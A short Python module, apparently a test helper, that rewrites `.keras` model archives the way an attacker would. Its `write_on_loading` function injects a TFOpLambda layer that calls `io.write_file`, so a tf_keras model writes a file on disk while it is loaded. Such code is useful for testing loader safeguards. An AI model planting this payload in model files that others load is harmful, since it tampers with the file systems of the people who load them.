"""Changes of `.keras` files, as an attacker would make them."""

import io
import json
import zipfile

import h5py


def rewritten(path, change):
    """Change the configuration and the weights in an archive, in place."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    content = io.BytesIO(members["model.weights.h5"])
    with h5py.File(content, "a") as file:
        change(config, file)
    members |= {"config.json": json.dumps(config).encode(), "model.weights.h5": content.getvalue()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, member in members.items():
            archive.writestr(name, member)


def write_on_loading(config, file):
    """Let a functional model of tf_keras write a file while it is built from its configuration."""
    node = ["_CONSTANT_VALUE", -1, str(file), {"contents": "written"}]
    layer = {
        "module": "tf_keras.src.layers.core.tf_op_layer",
        "class_name": "TFOpLambda",
        "config": {"name": "write", "function": "io.write_file"},
        "registered_name": "TFOpLambda",
        "name": "write",
        "inbound_nodes": [[node]],
    }
    config["config"]["layers"].append(layer)
